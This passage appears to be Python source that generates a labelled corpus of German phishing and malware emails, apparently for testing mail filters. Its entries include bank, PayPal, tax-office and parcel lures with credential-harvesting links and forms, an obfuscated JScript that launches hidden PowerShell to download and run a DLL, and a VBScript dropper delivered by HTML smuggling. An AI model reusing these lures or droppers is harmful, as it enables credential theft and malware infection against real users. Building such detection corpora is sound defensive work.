  "VR SecureGo plus deactivation threat that directly spoofs vr.de (SPF softfail, no DKIM, DMARC fail) and links "
  "to a look-alike login page.",
  mailfrom="noreply@vr.de", policy="quarantine", origin="php", extra=[PHPMAILER])

M("ing-konto", "phishing", "gmail", ("Lea Hartmann", "lea.hartmann92@gmail.com"),
  ("ING Deutschland", "service@ing-kundeninfo.de"),
  "Ihr Girokonto wurde vorübergehend eingeschränkt", "2025-06-03 06:05:31",
  "194.87.226.31", "smtp.ing-kundeninfo.de", "pass/pass/none",
  alt(page("ING", "#ff6200", "Einschr&auml;nkung Ihres Girokontos", [
      "Guten Tag Frau Hartmann,",
      "bei einer routinem&auml;&szlig;igen &Uuml;berpr&uuml;fung Ihres Kontos konnten wir Ihre Legitimation nach "
      "dem Geldw&auml;schegesetz (GwG) nicht vollst&auml;ndig best&auml;tigen. Ihr Girokonto wurde deshalb "
      "vor&uuml;bergehend eingeschr&auml;nkt.",
      "Bitte aktualisieren Sie Ihre Angaben innerhalb von 48 Stunden. Anschlie&szlig;end wird die "
      "Einschr&auml;nkung automatisch aufgehoben."],
      ("Angaben aktualisieren", "https://ing-de-kontopruefung.pages.dev/?sid=" + tok("ing", 32, HEX)),
      "ING-DiBa AG &middot; Theodor-Heuss-Allee 2 &middot; 60486 Frankfurt am Main"), "000000000000a1f3e20617c2b0"),
  "ING account-restriction lure from a newly registered look-alike domain (no DMARC record) pointing to a "
  "Cloudflare Pages phishing site.",
  dkim=[("ing-kundeninfo.de", "mail")], origin="postfix")

M("dkb-tan2go", "phishing", "outlook", ("Stefan Lorenz", "stefan.lorenz@outlook.de"),
  ("DKB Kundenservice", "info@dkb-mitteilung.com"),
  "Umstellung TAN2go auf DKB-App – letzte Erinnerung", "2024-09-17 12:41:03",
  "91.215.85.140", "mx1.dkb-mitteilung.com", "pass/pass/pass",
  alt(page("DKB", "#148dea", "Letzte Erinnerung: Umstellung auf die DKB-App", [
      "Hallo Stefan Lorenz,",
      "das Verfahren TAN2go wird zum 30.09.2024 endg&uuml;ltig abgeschaltet. Sie haben die Umstellung auf die "
      "neue DKB-App noch nicht abgeschlossen.",
      "Schlie&szlig;en Sie die Umstellung jetzt ab, damit Sie weiterhin &Uuml;berweisungen freigeben und Ihre "
      "Visa Debitkarte nutzen k&ouml;nnen."],
      ("Umstellung abschlie&szlig;en", "https://dkb-tan.floral-shape-7c1e.workers.dev/?session=" + tok("dkb", 24)),
      "Deutsche Kreditbank AG &middot; Taubenstra&szlig;e 7-9 &middot; 10117 Berlin",
      pixel="https://dkb-mitteilung.com/o.php?u=" + tok("dkbpx", 10)), "_----dkb8a7e61b2"),
  "DKB TAN2go migration deadline lure from a look-alike sender domain with its own DMARC pass, linking to a "
  "Cloudflare Workers page.",
  dkim=[("dkb-mitteilung.com", "s1")], origin="postfix")

COMDIRECT_HTML = f"""<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>comdirect - photoTAN Aktivierung</title>
<style>body{{font-family:Arial;background:#f5f5f0}}.box{{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-top:6px solid #fff500}}
input{{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #bbb}}button{{background:#2c2c2c;color:#fff;border:0;padding:11px 24px}}</style></head>
<body><div class="box"><h2>comdirect</h2><p>Bitte melden Sie sich an, um die Aktivierung Ihrer photoTAN-App abzuschlie&szlig;en.</p>
<form method="POST" action="https://cms.gaststaette-zum-anker.de/wp-includes/css/dist/cd/post.php">
<label>Zugangsnummer</label><input name="zugang" required>
<label>PIN</label><input name="pin" type="password" required>
<label>Mobilfunknummer</label><input name="mobil" required>
<label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ" required>
<input type="hidden" name="ref" value="{tok('cd', 16)}">
<button type="submit">Weiter</button></form>
<p style="font-size:11px;color:#777">&copy; 2025 comdirect - eine Marke der Commerzbank AG</p></div></body></html>
"""

M("comdirect-html", "phishing", "gmx", ("Klaus Wegner", "k.wegner@gmx.de"),
  ("comdirect", "praxis@physio-am-markt.de"),
  "photoTAN: Ihre Aktivierung läuft heute ab", "2025-01-28 15:02:44",
  "81.169.146.164", "mo4-p00-ob.smtp.rzone.de", "pass/pass/pass",
  mixed("------------7F8A0C3B1E2D4A5B6C7D8E9F",
        text("Sehr geehrter Kunde,\n\nIhre photoTAN-Aktivierung ist noch nicht abgeschlossen und läuft heute ab.\n"
             "Öffnen Sie bitte das angehängte Formular und schließen Sie die Aktivierung ab.\n\n"
             "Ihr comdirect Team\n"),
        attachment("text/html", "comdirect_photoTAN_Aktivierung.html", COMDIRECT_HTML.encode())),
  "comdirect photoTAN lure with an HTML attachment holding a login form that posts access number, PIN and phone "
  "number to a compromised WordPress site; sent through a hijacked physiotherapy mailbox at Strato.",
  mailfrom="praxis@physio-am-markt.de", dkim=[("physio-am-markt.de", "strato-dkim-0002")], origin="postfix",
  extra=["X-RZG-AUTH: :P2EQZWCpfu+qG7CngxMFH1J+3q8wa/QLpd5ylWvMDX3y/OuD5rXVisF+0+t7fa9Q"])

POSTBANK_QR = "https://postbank-bestsign.info/de/aktivierung?ref=" + tok("pb", 22)

M("postbank-qr", "phishing", "gmx", ("Renate Vogel", "renate.vogel@gmx.net"),
  ("Postbank", "no-reply@postbank-sicherheitscenter.com"),
  "BestSign: Bitte bestätigen Sie Ihr Gerät", "2025-05-20 09:31:18",
  "77.91.124.56", "mta3.postbank-sicherheitscenter.com", "pass/pass/none",
  Multi("related", "rel_0a9f3c7e55", [
      alt(page("Postbank", "#ffcc00", "Ger&auml;tebest&auml;tigung f&uuml;r BestSign", [
          "Sehr geehrte Kundin, sehr geehrter Kunde,",
          "aus Sicherheitsgr&uuml;nden muss Ihr f&uuml;r BestSign registriertes Ger&auml;t erneut best&auml;tigt "
          "werden. Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones:",
          '<img src="cid:qr-bestsign@postbank" width="180" height="180" alt="QR-Code">',
          "Nach dem Scannen werden Sie automatisch zur Best&auml;tigung weitergeleitet. Ohne Best&auml;tigung "
          "k&ouml;nnen Auftr&auml;ge ab dem 23.05.2025 nicht mehr freigegeben werden."], None,
          "Postbank - eine Niederlassung der Deutsche Bank AG"), "alt_0a9f3c7e55"),
      inline_png("qrcode.png", files.qr_png(POSTBANK_QR), "qr-bestsign@postbank")]),
  "Postbank BestSign device confirmation with the phishing URL only inside an inline QR-code image (no clickable "
  "link), from a look-alike domain.",
  dkim=[("postbank-sicherheitscenter.com", "k1")], origin="postfix")

M("paypal-limit", "phishing", "webde", ("Andrea Schubert", "andrea.schubert@web.de"),
  ("PayPal", "service@paypal-konto-sicherheit.de"),
  "Ihr PayPal-Konto wurde eingeschränkt – Fall-ID PP-005-831-294-117", "2024-12-06 21:17:09",
  "185.225.74.212", "server1.paypal-konto-sicherheit.de", "pass/pass/none",
  alt(page("PayPal", "#003087", "Wir ben&ouml;tigen Ihre Hilfe", [
      "Hallo Andrea Schubert,",
      "wir haben ungew&ouml;hnliche Aktivit&auml;ten in Ihrem PayPal-Konto festgestellt. Um Sie zu sch&uuml;tzen, "
      "haben wir einige Funktionen vor&uuml;bergehend eingeschr&auml;nkt.",
      "Bitte best&auml;tigen Sie Ihre Identit&auml;t und Ihre Zahlungsquellen. Solange Ihr Konto eingeschr&auml;nkt "
      "ist, k&ouml;nnen Sie kein Geld senden oder abbuchen."],
      ("Jetzt einloggen", "https://www.fahrschule-berger-online.de/wp-content/plugins/pp/de/signin/?country.x=DE"
       "&locale.x=de_DE&cmd=" + tok("ppl", 24)),
      "Copyright &copy; 1999-2024 PayPal. Alle Rechte vorbehalten. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A."),
      "--_=_swift_1733516229_4c2b8f1e"),
  "PayPal account-limitation lure from a look-alike domain, linking to a kit hidden in a compromised driving "
  "school's WordPress plugins folder.",
  dkim=[("paypal-konto-sicherheit.de", "default")], origin="php", extra=[PHPMAILER])

M("paypal-invoice-callback", "phishing", "gmx", ("Dieter Franke", "dieter.franke@gmx.de"),
  ("PayPal", "service@paypal.de"),
  "Rechnung von Norton Service Center (Nr. 0087)", "2025-02-14 11:26:37",
  "173.0.84.226", "mx2.slc.paypal.com", "pass/pass/pass",
  alt(page("PayPal", "#003087", "Norton Service Center hat Ihnen eine Rechnung &uuml;ber 389,99&nbsp;&euro; EUR gesendet", [
      "Rechnungsnummer: 0087<br>F&auml;llig am: 14. Februar 2025",
      "<b>Hinweis des Verk&auml;ufers:</b> Ihr Abonnement Norton 360 Deluxe (5 Ger&auml;te, 3 Jahre) wurde "
      "automatisch verl&auml;ngert und wird heute von Ihrem PayPal-Konto abgebucht. Wenn Sie diese Verl&auml;ngerung "
      "nicht veranlasst haben, rufen Sie innerhalb von 24 Stunden unseren Kundendienst an: "
      "<b>+49 800 181 7764</b> (kostenlos, Mo-So 8-22 Uhr).",
      "Artikel: Norton 360 Deluxe Jahreslizenz &times; 1 &mdash; 389,99&nbsp;&euro;"],
      ("Rechnung ansehen und bezahlen", "https://www.paypal.com/invoice/p/#INV2-8KQD-7RJT-3C4W-PXHN"),
      "PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg. "
      "Bitte antworten Sie nicht auf diese E-Mail."), "--_NmP-6f1b2a9c0d4e7f81-Part_1"),
  "Genuine PayPal invoice (service@paypal.de, all authentication passes) abused by a fake 'Norton' merchant whose "
  "note pushes a phone number: callback scam.",
  mailfrom="service@paypal.de", dkim=[("paypal.de", "pp-dkim1")], policy="reject", utc=True,
  extra=["X-Email-Type-Id: PPX001089"])

M("amazon-callback", "phishing", "tonline", ("Gisela Brandt", "gisela.brandt@t-online.de"),
  ("Amazon.de", "amazon.bestellung.kundendienst24@gmail.com"),
  "Ihre Amazon.de Bestellung #302-4418827-1193920", "2024-10-08 08:55:21",
  "209.85.218.47", "mail-ej1-f47.google.com", "pass/pass/pass",
  person("Hallo Gisela Brandt,\n\nvielen Dank für Ihre Bestellung bei Amazon.de.\n\n"
         "Bestellnummer: #302-4418827-1193920\nArtikel: Apple iPhone 16 Pro Max 512 GB – Titan Wüste\n"
         "Menge: 1\nGesamtbetrag: 1.649,00 €\nZahlungsart: Lastschrift\nVoraussichtliche Lieferung: 10.10.2024\n\n"
         "Falls Sie diese Bestellung nicht aufgegeben haben, rufen Sie bitte umgehend unseren Kundenservice an, "
         "damit die Bestellung storniert und der Betrag nicht abgebucht wird:\n\n"
         "Amazon Kundenservice: 0800 589 3447 (kostenlos, 24/7)\n\n"
         "Bitte antworten Sie nicht auf diese E-Mail.\n\nMit freundlichen Grüßen\nAmazon.de Kundenservice\n",
         "gmail"),
  "Fake Amazon.de order confirmation for an expensive iPhone sent from a Gmail account with 'Amazon.de' as display "
  "name; no link, only a 'cancel now' phone number (callback scam).",
  mailfrom="amazon.bestellung.kundendienst24@gmail.com", dkim=[("gmail.com", "20230601")], policy="none",
  origin="gmail")


M("n26-en", "phishing", "gmail", ("Daniel Koch", "daniel.koch.berlin@gmail.com"),
  ("N26", "support@n26-accountcare.com"),
  "Action required: your N26 account has been temporarily restricted", "2025-08-21 23:14:07",
  "45.95.169.203", "mail.n26-accountcare.com", "pass/pass/pass",
  alt(page("N26", "#36a18b", "Your account is temporarily restricted", [
      "Hi Daniel,",
      "as part of our regular security checks required by BaFin, we need you to re-confirm your identity and "
      "your paired device. Until this is done, outgoing transfers and card payments are paused.",
      "It only takes two minutes. If you do not complete the verification within 24 hours, your account will be "
      "closed and the balance transferred to your reference account after 60 days."],
      ("Verify now", "https://pub-3f1c9e27a4b84d0c8f6e15b2a7d90c44.r2.dev/n26/verify.html?u=" + tok("n26", 16)),
      "N26 Bank SE &middot; Voltairestra&szlig;e 8 &middot; 10179 Berlin", lang="en", style=1),
      "==n26_4471a9e2c3b5=="),
  "English N26 account-restriction lure from a look-alike domain with its own SPF/DKIM/DMARC, linking to a "
  "Cloudflare R2 bucket page.",
  dkim=[("n26-accountcare.com", "mail")], policy="quarantine", origin="postfix")

# ---- Germany: parcels, authorities, telecoms, mailboxes, marketplaces

M("dhl-zoll", "phishing", "gmx", ("Thomas Reuter", "t.reuter@gmx.de"),
  ("DHL Paket", "noreply@dhl-zustellung-info.com"),
  "Ihre Sendung JJD000390017734581 wird zurückgehalten – Zollgebühr offen", "2024-12-12 14:09:50",
  "193.143.1.66", "mail.dhl-zustellung-info.com", "pass/pass/none",
  alt(page("DHL", "#d40511", "Ihre Sendung wartet auf Zahlung", [
      "Hallo,",
      "Ihre Sendung <b>JJD000390017734581</b> aus dem Nicht-EU-Ausland wurde beim Zoll angemeldet. F&uuml;r die "
      "Zustellung ist eine Einfuhrabgabe von <b>2,99&nbsp;&euro;</b> zu entrichten.",
      "Bitte begleichen Sie den Betrag innerhalb von 3 Werktagen, sonst geht die Sendung an den Absender zur&uuml;ck."],
      ("Zollgeb&uuml;hr bezahlen", "https://dhl-de.paket-zoll.shop/sendung/?id=JJD000390017734581&t=" + tok("dhl", 10)),
      "Deutsche Post AG &middot; Charles-de-Gaulle-Stra&szlig;e 20 &middot; 53113 Bonn", style=1),
      "----=_Part_88213_1470962311.1734008990"),
  "DHL customs-fee lure (2,99 EUR) from a look-alike domain, linking to a card-harvesting page on a .shop domain.",
  dkim=[("dhl-zustellung-info.com", "default")], origin="postfix")

M("elster-pdf", "phishing", "webde", ("Sandra Keller", "sandra.keller@web.de"),
  ("ELSTER - Ihr Online-Finanzamt", "noreply@elster-portal-erstattung.de"),
  "Steuererstattung 2024: 1.186,40 € – Bestätigung erforderlich", "2025-05-06 16:48:29",
  "5.181.156.23", "vmi1842271.contaboserver.net", "pass/none/none",
  mixed("=_mixed_elster_63a0f2",
        text("Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,\n\nnach der Prüfung Ihrer "
             "Einkommensteuererklärung 2024 steht Ihnen eine Erstattung in Höhe von 1.186,40 € zu.\n"
             "Die Einzelheiten entnehmen Sie bitte dem beigefügten Bescheid (PDF).\n\n"
             "Mit freundlichen Grüßen\nIhr Finanzamt\n\nDiese Nachricht wurde automatisch erstellt.\n"),
        att("Bescheid_Erstattung_2024.pdf", pdf_doc([
            "ELSTER - Ihr Online-Finanzamt", "", "Mitteilung ueber eine Steuererstattung", "",
            "Steuernummer: 21/815/08150   Veranlagungszeitraum: 2024", "",
            "Erstattungsbetrag: 1.186,40 EUR", "",
            "Um die Auszahlung zu veranlassen, bestaetigen Sie bitte Ihre Bankverbindung",
            "innerhalb von 5 Werktagen ueber Ihr Benutzerkonto.",
            "Nach Ablauf der Frist verfaellt der Anspruch auf elektronische Auszahlung."],
            "https://elster-erstattung.de-portal.info/eportal/login?ref=" + tok("els", 14), "Erstattung beantragen",
            "Steuerbescheid"))),
  "ELSTER tax-refund lure whose PDF 'Bescheid' carries the phishing link as a button; sent from a look-alike "
  "domain on a rented VPS without DKIM or DMARC.",
  origin="postfix")

M("bzst-forms", "phishing", "tonline", ("Wolfgang Seidel", "w.seidel@t-online.de"),
  ("Bundeszentralamt für Steuern (über Google Formulare)", "forms-receipts-noreply@google.com"),
  "Datenabgleich Steuer-Identifikationsnummer 2025", "2025-02-25 10:02:11",
  "209.85.220.73", "mail-sor-f73.google.com", "pass/pass/pass",
  alt(page("Google Formulare", "#673ab7", "Datenabgleich Steuer-Identifikationsnummer 2025", [
      "Sie wurden eingeladen, das folgende Formular auszuf&uuml;llen:",
      "<b>Bundeszentralamt f&uuml;r Steuern &ndash; Datenabgleich</b><br>Gem&auml;&szlig; &sect; 139b AO sind alle "
      "Steuerpflichtigen verpflichtet, ihre bei der Steuer-ID hinterlegten Daten bis zum 15.03.2025 zu "
      "best&auml;tigen. Bitte geben Sie Ihre Steuer-ID, Ihre Bankverbindung (IBAN) und Ihre Online-Banking-Daten "
      "zur Verifizierung an. Bei Nichtbeachtung kann ein Zwangsgeld festgesetzt werden."],
      ("FORMULAR AUSF&Uuml;LLEN", "https://docs.google.com/forms/d/e/1FAIpQLSe" + tok("bz", 48) +
       "/viewform?usp=mail_form_link"),
      "Erstellen Sie Ihr eigenes Google-Formular. Dieses Formular wurde au&szlig;erhalb Ihrer Domain erstellt. "
      "<a href=\"https://docs.google.com/forms/u/0/d/e/1FAIpQLSe" + tok("bz", 48) + "/reportabuse\">Missbrauch melden</a>"
      " &middot; Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"),
      "000000000000b54f7e062ee3a1c8"),
  "Genuine Google Forms invitation (google.com, authentication passes) from an account named 'Bundeszentralamt "
  "für Steuern' asking for tax ID, IBAN and online-banking credentials.",
  mailfrom=f"3{tok('bzmf', 20)}@forms-receipts.bounces.google.com", reply_to="bzst.datenabgleich@gmail.com",
  dkim=[("google.com", "20230601")], policy="reject", utc=True)

M("rundfunk", "phishing", "gmx", ("Birgit Lange", "birgit.lange@gmx.de"),
  ("ARD ZDF Deutschlandradio Beitragsservice", "service@rundfunkbeitrag-zahlung.de"),
  "Zahlungserinnerung – Beitragsnummer 487 912 306", "2025-07-08 13:37:45",
  "185.241.208.94", "mail.rundfunkbeitrag-zahlung.de", "pass/pass/none",
  alt(page("Rundfunkbeitrag", "#00467f", "Ihre Lastschrift konnte nicht eingezogen werden", [
      "Sehr geehrte Beitragszahlerin, sehr geehrter Beitragszahler,",
      "der f&auml;llige Rundfunkbeitrag f&uuml;r den Zeitraum 04/2025 bis 06/2025 in H&ouml;he von "
      "<b>55,08&nbsp;&euro;</b> konnte von Ihrem Konto nicht eingezogen werden (R&uuml;cklastschrift).",
      "Bitte aktualisieren Sie Ihre Bankverbindung innerhalb von 7 Tagen. Andernfalls sind wir gesetzlich "
      "verpflichtet, einen Festsetzungsbescheid zu erlassen; zus&auml;tzlich f&auml;llt ein S&auml;umniszuschlag "
      "von 8,00&nbsp;&euro; an."],
      ("Bankverbindung aktualisieren", "https://rundfunkbeitrag-zahlung.de/beitragsnummer/pruefen.php?bn=487912306"),
      "ARD ZDF Deutschlandradio Beitragsservice &middot; 50656 K&ouml;ln"), "b1_rbs0708aa"),
  "Rundfunkbeitrag direct-debit failure with threat of a Festsetzungsbescheid, from a look-alike domain linking to "
  "a bank-data form.",
  dkim=[("rundfunkbeitrag-zahlung.de", "default")], origin="php", extra=[PHPMAILER])

M("telekom-spoof", "phishing", "tonline", ("Ursula Meier", "ursula.meier@t-online.de"),
  ("Telekom Deutschland GmbH", "rechnungonline@telekom.de"),
  "Ihre Telekom Rechnung Februar 2025 – Zahlung fehlgeschlagen", "2025-03-04 05:51:16",
  "179.43.178.102", "srv-1771.pvt-host.net", "fail/none/fail",
  alt(page("T &middot; &middot; Telekom", "#e20074", "Ihre Zahlung ist fehlgeschlagen", [
      "Guten Tag Ursula Meier,",
      "die Abbuchung Ihrer Rechnung f&uuml;r Februar 2025 &uuml;ber <b>47,95&nbsp;&euro;</b> ist fehlgeschlagen. "
      "Bitte melden Sie sich im Kundencenter an und hinterlegen Sie eine g&uuml;ltige Zahlungsmethode, damit "
      "Ihr Anschluss nicht gesperrt wird.",
      "Kundennummer: 5 871 204 993<br>Rechnungsnummer: 41 2025 0218 7731"],
      ("Zum Kundencenter", "https://telekom-kundencenter.login-secure.top/rechnung/?kdnr=5871204993&s=" + tok("tk", 12)),
      "Telekom Deutschland GmbH &middot; Landgrabenweg 151 &middot; 53227 Bonn", style=1), "==tk_4ab2e61c0f=="),
  "Telekom payment-failure notice that spoofs telekom.de directly (SPF fail, no DKIM, DMARC fail p=reject) and "
  "links to a .top login page harvesting T-Online credentials.",
  policy="reject", origin="php")

M("gmx-postfach", "phishing", "gmx", ("Erika Haas", "erika.haas@gmx.de"),
  ("GMX Sicherheitsteam", "gmx.sicherheitsteam2025@outlook.de"),
  "Ihr GMX Postfach wird in 24 Stunden deaktiviert", "2024-08-27 19:30:02",
  "40.92.58.81", "EUR03-DBA-obe.outbound.protection.outlook.com", "pass/pass/pass",
  alt(page("GMX", "#1c449b", "Speicherplatz &uuml;berschritten", [
      "Liebe GMX Kundin, lieber GMX Kunde,",
      "Ihr Postfach hat das Speicherlimit erreicht. 14 eingehende Nachrichten wurden zur&uuml;ckgehalten.",
      "Um eine Deaktivierung Ihres Postfachs zu vermeiden, best&auml;tigen Sie bitte Ihr Konto. Danach werden "
      "die zur&uuml;ckgehaltenen Nachrichten sofort zugestellt."],
      ("Konto best&auml;tigen", "https://gmx-postfach-bestaetigung.webflow.io/login?u=erika.haas%40gmx.de"),
      "GMX &ndash; ein Service der 1&amp;1 Mail &amp; Media GmbH", style=1), "_000_AS8P195MB1247EURP195PRODOUT_"),
  "GMX mailbox-quota lure from an Outlook.com freemail account with 'GMX Sicherheitsteam' as display name "
  "(authentication passes for outlook.de), linking to a Webflow-hosted login page.",
  dkim=[("outlook.de", "selector1")], origin="outlook")

M("kleinanzeigen", "phishing", "webde", ("Marco Dietrich", "marco.dietrich@web.de"),
  ("Sabine Krüger", "sabine.krueger.1974@gmail.com"),
  "Re: Kinderwagen Bugaboo Fox 3 – noch verfügbar?", "2025-04-14 20:47:33",
  "209.85.208.182", "mail-lj1-f182.google.com", "pass/pass/pass",
  person("Hallo Marco,\n\nich habe den Kinderwagen jetzt über Kleinanzeigen „Sicher bezahlen“ bezahlt (420 € inkl. "
         "Versand).\nSie müssen den Betrag nur noch auf Ihrer Seite bestätigen, dann wird er sofort auf Ihre Karte "
         "gutgeschrieben:\n\nhttps://kleinanzeigen.sicher-bezahlen-de.com/empfang/2874519304?s=" + tok("ka", 20) +
         "\n\nMein Kurier holt den Wagen dann morgen Vormittag ab. Bitte gut verpacken :)\n\nLG Sabine\n",
         "gmail"),
  "Kleinanzeigen 'Sicher bezahlen' scam from a fake buyer's Gmail account: a link to a fake payment-receipt page "
  "that asks the seller for card details.",
  mailfrom="sabine.krueger.1974@gmail.com", dkim=[("gmail.com", "20230601")], origin="gmail",
  extra=["In-Reply-To: <trinity-8a2f4c1e-77b3-4d09-9f12-1e5d7c3a9b20-1744638211402@3c-app-webde-bap48>",
         "References: <trinity-8a2f4c1e-77b3-4d09-9f12-1e5d7c3a9b20-1744638211402@3c-app-webde-bap48>"])

SG = "https://u31562147.ct.sendgrid.net/ls/click?upn=u001."
M("adac-sendgrid", "phishing", "tonline", ("Rainer Wolf", "rainer.wolf@t-online.de"),
  ("ADAC Mitgliederservice", "info@rabattwelt-plus.com"),
  "Herzlichen Glückwunsch! Sie wurden für ein ADAC Notfall-Set ausgewählt", "2024-07-16 11:03:58",
  "149.72.154.37", "wrqvtbkv.outbound-mail.sendgrid.net", "pass/pass/pass",
  alt(page("ADAC", "#ffcc00", "Ihr ADAC Auto-Notfallset wartet auf Sie", [
      "Lieber Autofahrer,",
      "zum 121. Jubil&auml;um verlost der ADAC unter allen Autofahrern 500 Premium-Notfallsets (Verbandkasten, "
      "Warnweste, Warndreieck, Starthilfekabel). Sie wurden ausgew&auml;hlt, an unserer kurzen Umfrage teilzunehmen.",
      "Beantworten Sie 4 Fragen und sichern Sie sich Ihr Set &ndash; Sie zahlen nur die Versandkosten von 1,95&nbsp;&euro;."],
      ("Zur Umfrage", SG + tok("sg1", 120, ALNUM + "-_")),
      f'Sie erhalten diese E-Mail aufgrund Ihrer Teilnahme an einem Gewinnspiel. <a href="{SG}{tok("sg2", 90)}">'
      "Abmelden</a>", pixel="https://u31562147.ct.sendgrid.net/wf/open?upn=u001." + tok("sg3", 100)),
      "bfc1e4a5d0d2b3c0e6ab1f7d9e2c4a80"),
  "ADAC prize-survey scam sent through a SendGrid account (authentication passes for an unrelated domain), "
  "links wrapped in SendGrid click tracking leading to a card-capture 'shipping fee' page.",
  mailfrom="bounces+31562147-7a2c-rainer.wolf=t-online.de@em4521.rabattwelt-plus.com",
  dkim=[("rabattwelt-plus.com", "s1"), ("sendgrid.info", "smtpapi")], utc=True)

M("dticket-canva", "phishing", "webde", ("Nina Braun", "nina.braun@web.de"),
  ("Deutschlandticket Service", "service@deutschlandticket-abo.info"),
  "Erstattung Ihres Deutschlandtickets: 58,00 € für Januar", "2025-02-03 07:12:40",
  "92.118.39.11", "mail.deutschlandticket-abo.info", "pass/pass/none",
  alt(page("Deutschlandticket", "#e30613", "Sie erhalten eine Erstattung", [
      "Hallo Nina Braun,",
      "aufgrund der Streiks und Zugausf&auml;lle im Januar erstatten die Verkehrsverb&uuml;nde den vollen "
      "Monatspreis Ihres Deutschlandtickets in H&ouml;he von <b>58,00&nbsp;&euro;</b>.",
      "Den Erstattungsantrag finden Sie in unserem Dokument. Bitte stellen Sie den Antrag bis 10.02.2025."],
      ("Erstattungsantrag &ouml;ffnen", "https://www.canva.com/design/DAGd7Kq2LmE/Vt3c9-QjB2xH6dS0aRw1nA/view?"
       "utm_content=DAGd7Kq2LmE&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks"),
      "Deutschlandticket &ndash; Ihr Ticket f&uuml;r den Nah- und Regionalverkehr"), "----=_dt_7c0e13a9"),
  "Deutschlandticket refund lure from a look-alike domain, linking to a Canva design page that forwards to the "
  "card-data form (genuine-service hop).",
  dkim=[("deutschlandticket-abo.info", "mail")], origin="postfix")

M("aok-spoof", "phishing", "outlook", ("Helga Wagner", "helga.wagner@hotmail.de"),
  ("AOK - Die Gesundheitskasse", "service@aok.de"),
  "Ihre neue elektronische Gesundheitskarte: Lichtbild hochladen", "2024-10-29 09:18:27",
  "37.120.234.58", "mail.kfz-teile-express24.com", "pass/none/fail",
  alt(page("AOK", "#005e3f", "Neue Gesundheitskarte (eGK) &ndash; Ihr Lichtbild fehlt", [
      "Sehr geehrte Versicherte, sehr geehrter Versicherter,",
      "Ihre elektronische Gesundheitskarte verliert zum 31.12.2024 ihre G&uuml;ltigkeit. F&uuml;r die neue Karte "
      "ben&ouml;tigen wir ein aktuelles Lichtbild sowie die Best&auml;tigung Ihrer Bankverbindung f&uuml;r "
      "Beitragsr&uuml;ckerstattungen.",
      "Ohne g&uuml;ltige Karte k&ouml;nnen Arztbesuche ab Januar nur als Privatleistung abgerechnet werden."],
      ("Lichtbild hochladen", "https://aok-egk-lichtbild.de/upload?versicherter=" + tok("aok", 10, "0123456789")),
      "AOK &ndash; Die Gesundheitskasse", style=1), "----=_Part_aok_2290"),
  "AOK health-card photo-upload lure that spoofs aok.de in From: while the envelope uses an unrelated shop domain "
  "(SPF pass there, no DKIM, DMARC fail).",
  mailfrom="info@kfz-teile-express24.com", policy="reject", origin="postfix")


VODAFONE_JS = """// Vodafone GmbH - Rechnungsdokument 05/2025
var _0x51a2=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e','\\x45\\x78\\x70\\x61\\x6e\\x64'];
var _0xk = function(a){return a.split('').reverse().join('');};
var _s = new ActiveXObject(_0x51a2[0]);
var _p = _0xk('llehsrewop') + ' -nop -w hidden -ep bypass -c "iwr https://rechnung-cdn.kabel-portal.top/d/inv.png' +
    ' -OutFile $env:TEMP\\\\vf.dll; rundll32 $env:TEMP\\\\vf.dll,DllRegisterServer"';
_s[_0x51a2[1]](_p, 0, false);
""" + "".join(f"var _0x{tok('pad' + str(i), 6, HEX)}='{tok('padv' + str(i), 40)}';\n" for i in range(30))

DPD_VBS = (b'Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")\r\nx.Open "GET", "https://dpd-paketinfo.net/cdn/track.jpg", False\r\n'
           b'x.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1: s.Open: s.Write x.responseBody\r\n'
           b's.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\\dpdtrk.exe", 2\r\n'
           b'CreateObject("WScript.Shell").Run "%APPDATA%\\dpdtrk.exe", 0, False\r\n')
DPD_BLOB = base64.b64encode(files.zip_archive([("DPD_Zustellnachweis_0146.vbs", DPD_VBS)])).decode()
DPD_HTML = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>DPD Zustellbenachrichtigung</title></head>\n"
            "<body style=\"font-family:Arial\"><img src=\"https://www.dpd.com/de/wp-content/themes/dpd/img/logo.svg\" "
            "width=\"90\"><h3>Ihr Zustellnachweis wird heruntergeladen ...</h3><p>Falls der Download nicht startet, "
            "&ouml;ffnen Sie die Datei erneut.</p>\n<script>\nvar d='" +
            "'+\n'".join(DPD_BLOB[i:i + 76] for i in range(0, len(DPD_BLOB), 76)) +
            "';\nvar b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}\n"
            "var f=new Blob([u],{type:'application/zip'}),a=document.createElement('a');\n"
            "a.href=URL.createObjectURL(f);a.download='DPD_Zustellnachweis_0146.zip';document.body.appendChild(a);"
            "a.click();\n</script></body></html>\n")

M("vodafone-js", "malware", "gmail", ("Peter Schröder", "peter.schroeder1968@gmail.com"),
  ("Vodafone Kundenbetreuung", "amministrazione@studio-ferrari-pr.it"),
  "Ihre Vodafone Rechnung vom 05.05.2025 (Kundennummer 118470331)", "2025-05-05 08:21:49",
  "62.149.155.146", "smtpdh16-1.aruba.it", "pass/pass/pass",
  mixed("----=_Part_31775_2074398741.1746426109",
        text("Sehr geehrte Kundin, sehr geehrter Kunde,\n\nim Anhang finden Sie Ihre aktuelle Vodafone Rechnung "
             "(Betrag: 84,37 EUR, Abbuchung am 12.05.2025).\nDas Dokument ist zum Schutz Ihrer Daten komprimiert.\n\n"
             "Ihr Vodafone Team\n"),
        att("Vodafone_Rechnung_05-2025.zip", files.zip_archive([("Vodafone_Rechnung_05-2025.js", VODAFONE_JS.encode())]),
            "application/zip")),
  "Fake Vodafone invoice from a compromised Italian office mailbox (authentication passes) carrying a ZIP with an "
  "obfuscated JScript downloader.",
